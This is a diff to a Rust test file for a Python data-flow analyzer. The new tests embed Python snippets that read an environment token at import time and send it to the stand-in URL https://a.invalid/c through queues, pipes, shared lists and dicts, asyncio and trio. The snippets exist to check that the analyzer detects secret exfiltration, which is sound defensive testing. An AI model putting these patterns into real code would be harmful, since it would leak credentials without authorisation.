@@ -4,7 +4,7 @@
 mod common;
 
 use common::{calls, events_of};
-use venin_model::{Event, OriginKind, Role};
+use venin_model::{Event, OriginKind, Role, Trigger};
 
 /// Whether an argument of a call carries something of a kind.
 fn carries(event: &Event, role: Role, kind: OriginKind) -> bool {
@@ -137,4 +137,51 @@ ThreadPoolExecutor().submit(lambda: 1).add_done_callback(lambda f: os.system('ec
 ";
     let run = calls(source).iter().filter(|name| *name == "os.system").count();
     assert_eq!(run, 1);
+}
+
+/// The address that data of an environment variable is sent to, in code that runs at import.
+fn address_of_taken(how: &str) -> Vec<String> {
+    let source = format!(
+        "import asyncio, multiprocessing, os, queue, threading, urllib.request\nsecret = os.environ['TOKEN'].encode()\n\
+         def send(data):\n    urllib.request.urlopen('https://a.invalid/c', data)\n{how}\n"
+    );
+    let events = events_of(&source);
+    let sends = events.iter().filter(|e| &*e.name == "urllib.request.urlopen");
+    let sends = sends.filter(|e| e.trigger == Trigger::Import && carries(e, Role::Data, OriginKind::Env));
+    sends.filter_map(|e| e.text(Role::Url).map(str::to_owned)).collect()
+}
+
+#[test]
+fn what_is_put_into_a_queue_is_got_by_whoever_waits_for_it() {
+    for how in [
+        "q = queue.Queue()\ndef drain():\n    send(q.get())\nthreading.Thread(target=drain).start()\nq.put(secret)",
+        "q = queue.SimpleQueue()\ndef drain():\n    while True:\n        send(q.get())\nthreading.Thread(target=drain).start()\nq.put(secret)",
+        "q = queue.LifoQueue()\nq.put_nowait(secret)\nsend(q.get_nowait())",
+        "q = queue.PriorityQueue()\nq.put((1, secret))\nsend(q.get()[1])",
+        "q = multiprocessing.Queue()\ndef drain(q):\n    send(q.get(timeout=3))\n\
+         multiprocessing.Process(target=drain, args=(q,)).start()\nq.put(secret)",
+        "q = multiprocessing.get_context('spawn').Queue()\nq.put(secret)\nsend(q.get())",
+        "q = multiprocessing.Manager().Queue()\nq.put(secret)\nsend(q.get())",
+        "a, b = multiprocessing.Pipe()\ndef drain(c):\n    send(c.recv())\n\
+         multiprocessing.Process(target=drain, args=(b,)).start()\na.send(secret)",
+        "held = multiprocessing.Manager().list()\ndef drain(c):\n    send(c[0])\n\
+         multiprocessing.Process(target=drain, args=(held,)).start()\nheld.append(secret)",
+        "held = multiprocessing.Manager().dict()\nheld['a'] = secret\nsend(held['a'])",
+        "async def drain(q):\n    send(await q.get())\nasync def main():\n    q = asyncio.Queue()\n    \
+         t = asyncio.create_task(drain(q))\n    await q.put(secret)\n    await t\nasyncio.run(main())",
+        "class Worker(threading.Thread):\n    def __init__(self, q):\n        super().__init__()\n        self.q = q\n    \
+         def run(self):\n        for item in iter(self.q.get, None):\n            send(item)\n\
+         q = queue.Queue()\nWorker(q).start()\nq.put(secret)",
+        "import trio\nasync def main():\n    there, here = trio.open_memory_channel(0)\n    await there.send(secret)\n    \
+         send(await here.receive())\ntrio.run(main)",
+        "buffer = []\ndef drain():\n    while buffer:\n        send(buffer.pop())\nthreading.Timer(3, drain).start()\nbuffer.append(secret)",
+    ] {
+        assert_eq!(address_of_taken(how), ["https://a.invalid/c"], "{how}");
+    }
+}
+
+#[test]
+fn an_end_of_a_pipe_does_not_receive_what_it_sent() {
+    assert!(address_of_taken("a, b = multiprocessing.Pipe()\na.send(secret)\nsend(a.recv())").is_empty());
+    assert!(address_of_taken("q, r = queue.Queue(), queue.Queue()\nq.put(secret)\nsend(r.get())").is_empty());
 }
